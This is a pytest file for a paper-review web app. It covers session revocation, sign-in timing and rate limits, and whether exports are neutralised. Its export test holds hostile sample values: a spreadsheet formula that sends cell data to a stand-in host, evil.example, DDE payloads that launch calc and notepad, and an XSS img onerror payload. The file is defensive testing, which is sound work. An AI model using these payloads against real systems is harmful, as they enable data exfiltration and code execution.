"""The review app over real HTTP (waitress on loopback, mail through a loopback SMTP server):
revocable sessions, sign-in timing and rate limits, and what exports carry.

These reproduce issue 18's probe: a session cookie replayed after sign-out or after the editor
was removed from the config, expired sessions, an editor's address told apart by the time
``POST /signin`` takes, unlimited sign-in requests, spreadsheet formulas and HTML in exports,
and a doubled ``charset`` in the export's Content-Type.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import statistics
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import waitress
from flask import Flask
from sqlalchemy import func, select
from waitress import wasyncore

from monitor.app import App
from monitor.web import create_app, shutdown, waitress_options
from storage.base import utcnow
from storage.ingest import ingest_records
from storage.models import EditorAction, EditorSession, Paper
from storage.review import set_status
from tests.records import make_record
from tests.smtp_server import LoopbackSMTP
from tests.test_web import EDITOR, seed, write_config

OTHER = "ben@example.org"  # a second editor
STRANGER = "mallory@example.org"


# -- fixtures: the app served by waitress, mail caught by aiosmtpd --------------------------


def make_app(
    database_url: str,
    tmp_path: Path,
    smtp: LoopbackSMTP,
    *,
    web: str = "",
    editors: tuple[str, ...] = (EDITOR, OTHER),
) -> App:
    config = write_config(tmp_path)
    text = config.read_text().replace(f'[[editor]]\nname = "Ana"\nemail = "{EDITOR}"\n', "")
    for address in editors:
        text += f'[[editor]]\nname = "{address.split("@")[0]}"\nemail = "{address}"\n'
    if web:
        text += f"[web]\n{web}\n"
    config.write_text(text)
    return App(
        env={
            "SCIMON_DATABASE_URL": database_url,
            "SCIMON_CONFIG": str(config),
            "SCIMON_OUTBOX_DIR": str(tmp_path / "outbox"),
            "SCIMON_SECRET_KEY": "k" * 32,
            **smtp.env(),
        }
    )


@contextmanager
def served(flask: Flask) -> Iterator[str]:
    """Serve ``flask`` with waitress on a free loopback port; yield its base URL.

    waitress's own ``run()`` may be in ``select()`` on the sockets when ``close()``
    shuts them from another thread (EBADF in the server thread); this loop polls
    in short turns and stops between two, so the sockets close only after it ends.
    """
    options = waitress_options(flask.extensions["scimon"].settings)  # as `scimon serve`
    server: Any = waitress.create_server(flask, host="127.0.0.1", port=0, threads=4, **options)
    stop = threading.Event()

    def run() -> None:
        while not stop.is_set():
            wasyncore.loop(timeout=0.05, map=server._map, count=1)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.effective_port}"
    finally:
        stop.set()
        thread.join(10)
        server.task_dispatcher.shutdown()
        server.close()
        shutdown(flask)


@pytest.fixture
def smtp() -> Iterator[LoopbackSMTP]:
    with LoopbackSMTP() as server:
        yield server


@pytest.fixture
def scimon(database_url: str, tmp_path: Path, smtp: LoopbackSMTP) -> Iterator[App]:
    app = make_app(database_url, tmp_path, smtp)
    seed(app)
    yield app
    app.close()


@pytest.fixture
def base(scimon: App) -> Iterator[str]:
    with served(create_app(scimon, testing=True)) as url:
        yield url


@contextmanager
def limited_client(
    database_url: str, tmp_path: Path, smtp: LoopbackSMTP, web: str, *, seeded: bool = False
) -> Iterator[httpx.Client]:
    """A client of an app made with these ``[web]`` limits, served on loopback; closed after.

    The rate-limit and timing tests each need their own limits, hence their own app.
    """
    scimon = make_app(database_url, tmp_path, smtp, web=web)
    try:
        if seeded:
            seed(scimon)
        with served(create_app(scimon, testing=True)) as url, client(url) as http:
            yield http
    finally:
        scimon.close()


@pytest.fixture
def signed_in(base: str, smtp: LoopbackSMTP) -> Iterator[httpx.Client]:
    """A client of ``base`` signed in as the first editor."""
    with client(base) as http:
        sign_in(http, smtp)
        yield http


def csrf_of(page: str) -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert match, page[:500]
    return match.group(1)


def wait_for(predicate: Callable[[], bool], timeout: float = 15.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.02)


def ask_for_link(http: httpx.Client, address: str) -> httpx.Response:
    token = csrf_of(http.get("/signin").text)
    return http.post("/signin", data={"email": address, "csrf_token": token})


def sign_in(http: httpx.Client, smtp: LoopbackSMTP, address: str = EDITOR) -> None:
    before = len(smtp.to(address))
    assert ask_for_link(http, address).status_code == 200
    wait_for(lambda: len(smtp.to(address)) > before)
    body = smtp.to(address)[-1].get_body(("plain",)).get_content()  # type: ignore[union-attr]
    match = re.search(r"http://localhost(/signin/\S+)", body)
    assert match
    link = match.group(1)
    token = csrf_of(http.get(link).text)
    response = http.post(link, data={"csrf_token": token})
    assert response.status_code == 302, response.text[:300]


def client(base: str, cookie: str | None = None) -> httpx.Client:
    http = httpx.Client(base_url=base, follow_redirects=False, timeout=30)
    if cookie is not None:
        http.cookies.set("scimon_session", cookie, domain="127.0.0.1")
    return http


def actions_by(scimon: App, address: str) -> int:
    with scimon.sessions() as db:
        return int(
            db.scalar(select(func.count()).select_from(EditorAction).where(
                EditorAction.editor == address
            )) or 0
        )  # fmt: skip


def assert_locked_out(base: str, cookie: str, csrf: str) -> None:
    """A replayed cookie reaches nothing: pages redirect to sign-in, POSTs are refused."""
    with client(base, cookie) as replay:
        for path in ("/queue", "/papers/1", "/shortlist", "/export?format=csv"):
            response = replay.get(path)
            assert response.status_code == 302, (path, response.status_code)
            assert "/signin" in response.headers["location"]
        posted = replay.post("/papers/1/status", data={"status": "maybe", "csrf_token": csrf})
        assert posted.status_code == 403


# -- 2. sessions are revocable server-side ---------------------------------------------------


def test_a_cookie_replayed_after_sign_out_opens_nothing(
    base: str, signed_in: httpx.Client, scimon: App
) -> None:
    http = signed_in
    assert http.get("/queue").status_code == 200
    cookie = http.cookies["scimon_session"]
    csrf = csrf_of(http.get("/papers/1").text)
    # the cookie works from another client before sign-out (it is the whole session)
    with client(base, cookie) as twin:
        assert twin.get("/queue").status_code == 200
    assert http.post("/signout", data={"csrf_token": csrf}).status_code == 302
    assert_locked_out(base, cookie, csrf)
    assert actions_by(scimon, EDITOR) == 0
    with scimon.sessions() as db:
        assert db.scalar(select(func.count()).select_from(EditorSession)) == 0


def test_signing_out_ends_only_that_session(base: str, smtp: LoopbackSMTP) -> None:
    with client(base) as laptop, client(base) as phone:
        sign_in(laptop, smtp)
        sign_in(phone, smtp)
        csrf = csrf_of(laptop.get("/queue").text)
        assert laptop.post("/signout", data={"csrf_token": csrf}).status_code == 302
        assert laptop.get("/queue").status_code == 302
        assert phone.get("/queue").status_code == 200


def test_an_editor_removed_from_the_config_is_locked_out(
    database_url: str, tmp_path: Path, smtp: LoopbackSMTP, scimon: App
) -> None:
    with served(create_app(scimon, testing=True)) as url, client(url) as http:
        sign_in(http, smtp, OTHER)
        assert http.get("/queue").status_code == 200
        cookie = http.cookies["scimon_session"]
        csrf = csrf_of(http.get("/papers/1").text)
    # the server restarts with Ben no longer an [[editor]]; same database, same secret key
    (tmp_path / "after").mkdir()
    restarted = make_app(database_url, tmp_path / "after", smtp, editors=(EDITOR,))
    try:
        with served(create_app(restarted, testing=True)) as url:
            assert_locked_out(url, cookie, csrf)
            with client(url, cookie) as replay:
                export = replay.get("/export?format=md&status=to_summarize")
                assert export.status_code == 302 and "Robotic" not in export.text
    finally:
        restarted.close()
    assert actions_by(scimon, OTHER) == 0


def test_an_editor_removed_while_the_server_runs_is_refused_at_once(
    base: str, smtp: LoopbackSMTP, scimon: App
) -> None:
    """The check is per request, not per start: the configured list is read each time."""
    with client(base) as http:
        sign_in(http, smtp, OTHER)
        csrf = csrf_of(http.get("/papers/1").text)
        config = scimon.settings.config
        kept = [e for e in config.editor if e.email != OTHER]
        object.__setattr__(config, "editor", kept)  # as a reload of the config would
        assert http.get("/queue").status_code == 302
        assert (
            http.post("/papers/1/status", data={"status": "maybe", "csrf_token": csrf}).status_code
            == 403
        )
    assert actions_by(scimon, OTHER) == 0


def test_an_expired_session_is_refused_and_pruned(signed_in: httpx.Client, scimon: App) -> None:
    assert signed_in.get("/queue").status_code == 200
    with scimon.sessions() as db, db.begin():
        row = db.scalars(select(EditorSession)).one()
        assert row.email == EDITOR
        assert row.expires_at > utcnow() + timedelta(days=13)
        row.expires_at = utcnow() - timedelta(seconds=1)
    response = signed_in.get("/queue")
    assert response.status_code == 302 and "/signin" in response.headers["location"]
    with scimon.sessions() as db:
        assert db.scalar(select(func.count()).select_from(EditorSession)) == 0


def test_status_changes_are_recorded_under_the_sessions_editor(
    base: str, smtp: LoopbackSMTP, scimon: App
) -> None:
    with client(base) as http:
        sign_in(http, smtp, OTHER)
        page = http.get("/papers/1").text
        assert OTHER in page  # the header shows who is signed in
        posted = http.post(
            "/papers/1/status", data={"status": "maybe", "csrf_token": csrf_of(page)}
        )
        assert posted.status_code == 302
    assert actions_by(scimon, OTHER) == 1 and actions_by(scimon, EDITOR) == 0


# -- 5. sign-in timing and rate limits --------------------------------------------------------


def test_sign_in_takes_as_long_for_an_editor_as_for_anyone(
    database_url: str, tmp_path: Path, smtp: LoopbackSMTP
) -> None:
    """The probe measured ~72 ms for an editor (mail sent in the request) against ~2 ms."""
    handler: Any = smtp._controller.handler  # type: ignore[union-attr]
    deliver = handler.handle_DATA

    async def slow_data(*args: Any) -> str:
        await asyncio.sleep(0.1)  # a relay that takes its time
        return str(await deliver(*args))

    handler.handle_DATA = slow_data
    timings: dict[str, list[float]] = {EDITOR: [], STRANGER: []}
    web = "signin_per_client = 1000\nsignin_per_address = 1000"
    with limited_client(database_url, tmp_path, smtp, web, seeded=True) as http:
        token = csrf_of(http.get("/signin").text)
        for _ in range(3):  # warm up both paths
            for address in timings:
                http.post("/signin", data={"email": address, "csrf_token": token})
        for _ in range(20):
            for address, times in timings.items():
                start = time.perf_counter()
                response = http.post("/signin", data={"email": address, "csrf_token": token})
                times.append(time.perf_counter() - start)
                assert response.status_code == 200
        editor, stranger = (statistics.median(t) * 1000 for t in timings.values())
        assert abs(editor - stranger) < 10, (editor, stranger)
        assert editor < 90, editor  # nobody waits for the relay's 100 ms
        # and the mail still arrives, every one of them, and none for the stranger
        wait_for(lambda: len(smtp.to(EDITOR)) == 23, timeout=30)
        assert smtp.to(STRANGER) == []


def test_sign_in_requests_are_rate_limited_per_address(
    database_url: str, tmp_path: Path, smtp: LoopbackSMTP
) -> None:
    web = "signin_per_client = 100\nsignin_per_address = 3"
    with limited_client(database_url, tmp_path, smtp, web) as http:
        for address in (EDITOR, STRANGER):  # the same limit for both: no tell
            codes = [ask_for_link(http, address).status_code for _ in range(3)]
            assert codes == [200, 200, 200]
            refused = ask_for_link(http, address)
            assert refused.status_code == 429
            assert refused.headers["content-type"].startswith("text/plain")
            assert "Too many sign-in requests" in refused.text
            assert int(refused.headers["retry-after"]) > 0
        # the address's case or spaces do not make it another address
        assert ask_for_link(http, f"  {EDITOR.upper()} ").status_code == 429
        assert ask_for_link(http, OTHER).status_code == 200
        wait_for(lambda: len(smtp.to(OTHER)) == 1)
    assert len(smtp.to(EDITOR)) == 3  # the refused requests sent nothing


def test_sign_in_requests_are_rate_limited_per_client(
    database_url: str, tmp_path: Path, smtp: LoopbackSMTP
) -> None:
    web = "signin_per_client = 4\nsignin_per_address = 100"
    with limited_client(database_url, tmp_path, smtp, web) as http:
        codes = [ask_for_link(http, f"x{i}@example.org").status_code for i in range(5)]
        assert codes == [200, 200, 200, 200, 429]
        assert ask_for_link(http, EDITOR).status_code == 429
        # a proxy's X-Forwarded-For is not trusted unless configured
        forged = http.post(
            "/signin",
            data={"email": EDITOR, "csrf_token": csrf_of(http.get("/signin").text)},
            headers={"X-Forwarded-For": "203.0.113.9"},
        )
        assert forged.status_code == 429


def test_behind_a_trusted_proxy_each_client_has_its_own_limit(
    database_url: str, tmp_path: Path, smtp: LoopbackSMTP
) -> None:
    web = "signin_per_client = 2\nsignin_per_address = 100\ntrusted_proxies = 1"
    with limited_client(database_url, tmp_path, smtp, web) as http:
        token = csrf_of(http.get("/signin").text)

        def post(client_ip: str, n: int) -> int:
            return http.post(
                "/signin",
                data={"email": f"x{n}@example.org", "csrf_token": token},
                headers={"X-Forwarded-For": f"198.51.100.77, {client_ip}"},
            ).status_code

        assert [post("203.0.113.1", n) for n in range(3)] == [200, 200, 429]
        assert [post("203.0.113.2", n) for n in range(3)] == [200, 200, 429]


# -- 4 and 10. exports --------------------------------------------------------------------------

ATTACKS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click for the full text")',
    "journal": "@SUM(1+1)*cmd|' /C calc'!A0",
    "abstract": "+cmd|' /C calc'!A0\nCONCLUSIONS: -2+3+cmd|' /C notepad'!A0",
}


def test_exports_over_http_are_neutralised_with_one_charset(
    base: str, smtp: LoopbackSMTP, scimon: App
) -> None:
    ingest_records(
        scimon.sessions,
        [
            make_record(
                pmid="950",
                source_id="950",
                dois=("10.1000/evil.950",),
                title=ATTACKS["title"],
                journal=ATTACKS["journal"],
                abstract=ATTACKS["abstract"] + " <img src=x onerror=alert(1)>",
            )
        ],
    )
    with scimon.sessions() as db, db.begin():
        paper_id = db.scalar(select(Paper.id).where(Paper.pmid == "950"))
        assert paper_id is not None
        set_status(db, paper_id, "to_summarize", EDITOR)
    with client(base) as http:
        sign_in(http, smtp)
        expected = {
            "csv": "text/csv; charset=utf-8",
            "md": "text/markdown; charset=utf-8",
            "json": "application/json",
            "ris": "application/x-research-info-systems; charset=utf-8",
            "bibtex": "application/x-bibtex; charset=utf-8",
            "csl-json": "application/vnd.citationstyles.csl+json",
        }
        for fmt, content_type in expected.items():
            response = http.get(f"/export?format={fmt}&status=to_summarize")
            assert response.status_code == 200
            assert response.headers["content-type"] == content_type, fmt
            assert response.headers["content-type"].count("charset") <= 1
        rows = list(csv.DictReader(io.StringIO(http.get("/export?format=csv").text)))
        (row,) = rows
        assert row["title"] == "'" + ATTACKS["title"]
        assert row["journal"] == "'" + ATTACKS["journal"]
        assert row["abstract"] == "'" + ATTACKS["abstract"] + " <img src=x onerror=alert(1)>"
        # quoted from the abstract's CONCLUSIONS section, neutralised like every cell
        assert row["key_findings"] == "'-2+3+cmd|' /C notepad'!A0 <img src=x onerror=alert(1)>"
        md = http.get("/export?format=md").text
        assert "<img" not in md and "&lt;img src=x onerror=alert(1)&gt;" in md
        # JSON is data for programs: the values are what was published, unaltered
        (data,) = http.get("/export?format=json").json()
        assert data["title"] == ATTACKS["title"]
